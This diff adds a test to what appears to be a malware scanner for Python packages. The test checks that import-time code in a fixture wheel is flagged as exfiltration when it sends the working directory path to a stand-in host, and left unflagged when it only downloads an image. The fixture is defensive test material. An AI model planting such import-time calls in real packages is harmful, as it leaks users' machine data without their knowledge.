@@ -1011,3 +1011,19 @@ test('a name without a dot is a neighbour in the same network, a name that could
   ])
     expect(await to(address), address).toMatchObject([{ class: 'malware', context: 'import' }]);
 });
+
+test('the place where an answer is put does not leave the machine, in an address it does', async () => {
+  const file = (address: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, urllib.request',
+        "at = os.path.join(os.environ['TEMP'], 'w.jpg')",
+        `urllib.request.urlretrieve(${address}, at)`,
+      ),
+    });
+
+  expect(await inspect('exfiltration', file("'https://i.imgur.com/abc.jpg'"))).toEqual([]);
+  expect(await inspect('exfiltration', file("'https://files.tools.invalid/?at=' + os.getcwd()"))).toMatchObject([
+    { message: 'Sends paths of this machine to files.tools.invalid.' },
+  ]);
+});
